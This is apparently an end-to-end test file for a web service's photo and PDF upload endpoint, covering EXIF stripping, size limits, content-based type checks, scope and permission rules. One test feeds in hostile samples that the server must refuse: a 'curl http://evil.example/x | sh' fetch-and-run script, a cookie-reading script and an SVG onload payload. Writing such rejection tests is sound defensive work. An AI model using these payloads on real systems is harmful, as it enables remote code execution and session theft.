// Photo and file uploads against the real binary (ADR 0010, Files): re-encoding strips EXIF/GPS, the
// 10 MiB limit, content-decided types, scope and sign-in. Runs on SQLite, and on PostgreSQL with
// ANKANG_E2E_DATABASE=postgres.

import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';

import { startServer } from './support/server.mjs';
import { Client, signIn, expectStatus } from './support/client.mjs';
import { JPEG_CARD, JPEG_WITH_GPS, PDF_DOCUMENT, multipartBody, uploadFile } from './support/multipart.mjs';

const MiB = 1024 * 1024;

/** The JPEG markers before the scan (SOS). */
function jpegMarkers(bytes) {
  const markers = [];
  let at = 2;
  while (at + 4 <= bytes.length) {
    assert.equal(bytes[at], 0xff, `marker expected at ${at}`);
    const marker = bytes[at + 1];
    markers.push(marker);
    if (marker === 0xda) break;
    at += 2 + bytes.readUInt16BE(at + 2);
  }
  return markers;
}

describe('files', () => {
  let server;
  let county; // county_cadre: 玄武区, LP_CADRE (files:file:upload, files:file:view)
  let qinhuai; // qinhuai_cadre: 秦淮区, beside 玄武区
  let qinhuaiOrganisationId;
  let photo; // the upload of JPEG_WITH_GPS

  before(async () => {
    server = await startServer();
    county = await signIn(server.baseUrl, 'county_cadre');
    qinhuai = await signIn(server.baseUrl, 'qinhuai_cadre');
    qinhuaiOrganisationId = qinhuai.me.user.organisationId;
  });

  after(async () => {
    await server?.stop();
  });

  it('re-encodes a phone photo: upright, no EXIF or GPS, served inline with nosniff', async () => {
    assert.ok(JPEG_WITH_GPS.includes('Exif'));
    const response = await uploadFile(county, { filename: '现场照片.jpg', data: JPEG_WITH_GPS });
    photo = expectStatus(response, 201).json;
    assert.equal(photo.mediaType, 'image/jpeg');
    assert.equal(photo.originalName, '现场照片.jpg');
    assert.equal(photo.organisationId, county.me.user.organisationId);
    // 32 × 16 turned by orientation 6.
    assert.equal(photo.width, 16);
    assert.equal(photo.height, 32);
    assert.equal(photo.url, `/api/v1/files/${photo.id}`);
    assert.equal(photo.thumbnailUrl, `/api/v1/files/${photo.id}/thumbnail`);

    const download = expectStatus(await county.get(photo.url), 200);
    assert.equal(download.headers.get('content-type'), 'image/jpeg');
    assert.equal(download.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(download.headers.get('content-disposition'), `inline; filename*=UTF-8''${encodeURIComponent('现场照片')}.jpg`);
    assert.match(download.headers.get('cache-control'), /^private, max-age=\d+$/);
    assert.equal(download.body.length, photo.byteSize);
    assert.notDeepEqual(download.body, JPEG_WITH_GPS);
    assert.deepEqual([...download.body.subarray(0, 3)], [0xff, 0xd8, 0xff]);
    assert.equal(download.body.includes('Exif'), false, 'EXIF left in the stored photo');
    for (const marker of jpegMarkers(download.body)) {
      assert.ok(!(marker >= 0xe1 && marker <= 0xef), `APP${marker - 0xe0} segment left`);
      assert.notEqual(marker, 0xfe, 'comment left');
    }

    const thumbnail = expectStatus(await county.get(photo.thumbnailUrl), 200);
    assert.equal(thumbnail.headers.get('content-type'), 'image/jpeg');
    assert.deepEqual([...thumbnail.body.subarray(0, 2)], [0xff, 0xd8]);

    // The same ETag answers 304 without the bytes.
    const etag = download.headers.get('etag');
    const again = await county.get(photo.url, { headers: { 'if-none-match': etag } });
    assert.equal(again.status, 304);
  });

  it('keeps a PDF as sent, without thumbnail', async () => {
    const pdf = expectStatus(
      await uploadFile(county, { filename: '整改报告.pdf', data: PDF_DOCUMENT, contentType: 'application/pdf' }),
      201,
    ).json;
    assert.equal(pdf.mediaType, 'application/pdf');
    assert.equal(pdf.thumbnailUrl, null);
    const download = expectStatus(await county.get(pdf.url), 200);
    assert.equal(download.headers.get('content-type'), 'application/pdf');
    assert.deepEqual(download.body, PDF_DOCUMENT);
    assert.equal((await county.get(`/files/${pdf.id}/thumbnail`)).status, 404);
  });

  it('refuses more than 10 MiB with 413', async () => {
    // Above the route's body limit: refused before the body is read.
    const huge = Buffer.concat([JPEG_CARD, Buffer.alloc(11 * MiB - JPEG_CARD.length)]);
    let status;
    try {
      status = (await uploadFile(county, { filename: 'huge.jpg', data: huge })).status;
    } catch (error) {
      assert.fail(`the 11 MiB upload got no answer: ${error.message}`);
    }
    assert.equal(status, 413);
    // A file part just over 10 MiB in a body within the limit: 413 naming the field.
    const over = Buffer.concat([PDF_DOCUMENT, Buffer.alloc(10 * MiB + 1 - PDF_DOCUMENT.length)]);
    const response = await uploadFile(county, { filename: 'big.pdf', data: over, contentType: 'application/pdf' });
    assert.equal(response.status, 413);
    assert.equal(response.json.code, 'payload_too_large');
    assert.ok(response.json.fields.file);
  });

  it('refuses what is not a photo or PDF, whatever its name, on the field file', async () => {
    for (const [filename, data] of [
      ['photo.jpg', '#!/bin/sh\ncurl http://evil.example/x | sh\n'],
      ['photo.jpg', '<!DOCTYPE html><script>alert(document.cookie)</script>'],
      ['logo.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
      ['broken.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(500, 0x41)])],
    ]) {
      const response = await uploadFile(county, { filename, data: Buffer.from(data) });
      assert.equal(response.status, 400, `${filename}: ${response.text}`);
      assert.equal(response.json.code, 'invalid_input');
      assert.ok(response.json.fields.file, `${filename}: ${response.text}`);
    }
    const english = await uploadFile(county, { filename: 'photo.jpg', data: '#!/bin/sh\n', options: { language: 'en' } });
    assert.match(english.json.fields.file, /JPEG/);
    // No file part at all.
    const { body, contentType } = multipartBody([{ name: 'organisationId', data: '1' }]);
    const missing = await county.post('/files', body, { headers: { 'content-type': contentType } });
    assert.equal(missing.status, 400);
    assert.ok(missing.json.fields.file);
  });

  it('keeps files inside the data scope', async () => {
    assert.equal((await qinhuai.get(photo.url)).status, 404);
    assert.equal((await qinhuai.get(photo.thumbnailUrl)).status, 404);
    assert.equal((await county.get(`/files/${photo.id + 100000}`)).status, 404);
    // An upload for an organisation outside the caller's scope is refused; inside it is stored there.
    const outside = await uploadFile(county, { organisationId: qinhuaiOrganisationId });
    assert.equal(outside.status, 400);
    assert.ok(outside.json.fields.organisationId);
    const theirs = expectStatus(await uploadFile(qinhuai, { organisationId: qinhuaiOrganisationId }), 201).json;
    assert.equal(theirs.organisationId, qinhuaiOrganisationId);
    assert.equal((await county.get(theirs.url)).status, 404);
    const province = await signIn(server.baseUrl, 'prov_cadre');
    assert.equal((await province.get(theirs.url)).status, 200);
  });

  it('answers 401 without a session and 403 without the permission', async () => {
    const anonymous = new Client(server.baseUrl);
    assert.equal((await anonymous.get(photo.url)).status, 401);
    assert.equal((await anonymous.get(photo.thumbnailUrl)).status, 401);
    assert.equal((await uploadFile(anonymous, {})).status, 401);
    const auditor = await signIn(server.baseUrl, 'auditor'); // may view, not upload
    assert.equal((await auditor.get(photo.url)).status, 200);
    assert.equal((await uploadFile(auditor, {})).status, 403);
  });

  it('records each upload in the audit log', async () => {
    const auditor = await signIn(server.baseUrl, 'auditor');
    const logs = expectStatus(await auditor.get('/audit-logs?entityType=file&action=upload&pageSize=100'), 200).json;
    const entry = logs.items.find((item) => item.entityId === String(photo.id));
    assert.ok(entry, `no audit entry for file ${photo.id}`);
  });
});
